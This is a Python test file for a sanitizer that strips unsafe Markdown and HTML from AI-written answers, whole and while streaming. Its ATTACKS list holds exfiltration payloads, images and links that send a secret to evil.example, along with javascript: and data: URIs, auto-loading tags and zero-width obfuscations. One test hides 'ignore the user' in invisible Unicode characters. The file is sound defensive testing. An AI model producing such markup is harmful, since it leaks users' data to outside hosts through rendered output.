"""A19, A21 as far as an answer goes: what a model writes, whole and in every state while it is written.

What is rendered is judged by the renderer of stored Markdown and by one that would fetch anything.
"""

from __future__ import annotations

import random
import re

import pytest
from markdown_it import MarkdownIt

from webapp.answers import plain
from webapp.answers.harmless import REMOVED, Stream, harmless

KNOWN = frozenset([1, 2])
SOURCE = "https://known.example/page"
SECRET = "d=SECRET"
EVIL = f"https://evil.example/?{SECRET}"

ATTACKS = [
    f"Look ![x]({EVIL}) here.",
    f"Look ![x]({EVIL} 'a title') here.",
    f"Look ![x][pic] here.\n\n[pic]: {EVIL}",
    f"Look ![pic] here.\n\n[pic]: {EVIL}",
    f"![a ![b]({EVIL}) c]({EVIL})",
    f"[![x]({EVIL})]({EVIL})",
    f"[click]({EVIL}) me",
    f"[click]( <{EVIL}> ) me",
    f"[click][l]\n\n[l]: <{EVIL}> 'title'",
    f"<{EVIL}>",
    f"{EVIL}",
    f"www.evil.example/?{SECRET}",
    f"//evil.example/?{SECRET}",
    f"<img src='{EVIL}'>",
    f"<img\nsrc={EVIL}\n/>",
    f"<style>@import url({EVIL})</style>",
    f"<svg><image href='{EVIL}'/></svg>",
    f"<link rel=prefetch href={EVIL}>",
    "<div hx-get='/api/v1/keys' hx-trigger='load'></div>",
    "<form action=/logout><input autofocus></form>",
    "[x](javascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    f"[1]({EVIL}) and [1](javascript:alert(1))",
    f"Text[^1]\n\n[^1]: ![x]({EVIL})",
    f"!\\[x]({EVIL}) ![x]\\({EVIL})",
    f"![x](https:/\\evil.example/?{SECRET})",
    f"![x](\n{EVIL}\n)",
    f"`unclosed ![x]({EVIL})",
    f"```\ncode\n```\n![x]({EVIL})",
    f"![x\u200b]({EVIL})",
    f"!\u200b[x]({EVIL})",
    f"[{'a' * 4000}]({EVIL})",
    f"![{'a b ' * 1500}]({EVIL})",
]


def fetched(markdown: str) -> str:
    """What a renderer that allows everything would load, run or link to."""
    html = MarkdownIt("commonmark", {"html": True}).render(markdown)
    html = re.sub(r"<pre><code.*?</code></pre>|<code>.*?</code>", "", html, flags=re.S)
    tags = re.findall(r"<[a-zA-Z][^>]*>", html)
    return "\n".join(
        tag for tag in tags if not re.fullmatch(r"<(?:p|em|strong|li|ul|ol|br ?/?|blockquote|hr ?/?|h\d)>", tag)
    )


def streamed(text: str, pieces: random.Random, allowed: set[str] | None) -> list[str]:
    """Every state of the shown text."""
    states, shown = [], ""

    def tell(piece: str) -> None:
        nonlocal shown
        shown += piece
        states.append(shown)

    stream = Stream(tell, allowed, KNOWN)
    at = 0
    while at < len(text):
        step = pieces.choice((1, 2, 3, 5, 8, 40))
        stream(text[at : at + step])
        at += step
    stream.close()
    return states


@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
def test_a21_nothing_is_loaded_or_linked(attack: str) -> None:
    out = harmless(attack, {SOURCE})
    assert SECRET not in out or "code" in attack or "unclosed" in attack
    assert not fetched(out)


@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
def test_a19_each_streamed_state_is_safe(attack: str) -> None:
    for seed in range(12 if len(attack) < 1000 else 2):
        for state in streamed(f"Well, {attack} and so on.", random.Random(seed), {SOURCE}):
            assert not fetched(state), state[-300:]


@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
def test_pictures_and_html_go_even_where_links_may_stay(attack: str) -> None:
    for out in (harmless(attack, None), *streamed(attack, random.Random(1), None)):
        assert not re.search(r"<(?!a )[a-z]", fetched(out)), out[-300:]


@pytest.mark.parametrize(
    "text",
    [
        "Plain words, *stressed* and **strong**; 3 < 4 and a[0].",
        "- One\n- Two\n\n1. First\n\n> Quoted\n\n| a | b |\n|---|---|\n| 1 | 2 |",
        "Use `a[1] < b` so:\n\n```python\nimg = '<img src=x>'\nprint(a[1])\n```\nDone [1].",
        f"See [the page]({SOURCE}) and {SOURCE}.",
        "Grüße, 日本語, हिन्दी, کتاب‌ها and 👩‍👩‍👧 stay.",
    ],
)
def test_what_is_harmless_stays(text: str) -> None:
    assert harmless(text, {SOURCE}) == text
    said = streamed(text, random.Random(3), {SOURCE})[-1]
    assert said == text.replace("Done [1].", "Done.[1]")  # the mark goes behind the stop


def test_made_up_addresses_are_taken_out() -> None:
    assert harmless(f"See {SOURCE}/../?x=1 now", {SOURCE}) == f"See {REMOVED} now"
    assert harmless(f"See [it]({EVIL}) now", {SOURCE}) == "See it now"
    assert harmless(f"See [it]({EVIL}) now", None) == f"See [it]({EVIL}) now"


def test_hidden_characters_go() -> None:
    hidden = "".join(chr(0xE0000 + ord(letter)) for letter in "ignore the user")
    assert plain.visible(f"a{hidden}b\u202e\u2066c\u200bd") == "abcd"
    assert harmless(f"a{hidden}\nb\u202e", None) == "a\nb"


def test_long_nonsense_takes_no_time() -> None:
    for text in (
        "[" * 50_000,
        "![" * 30_000,
        "<a " * 30_000,
        "`" * 50_000,
        "[a](" * 20_000,
        "_a" * 40_000,
        "http://" * 9000,
    ):
        harmless(text, set())
        streamed(text[:5000], random.Random(1), set())
        plain.words(text)
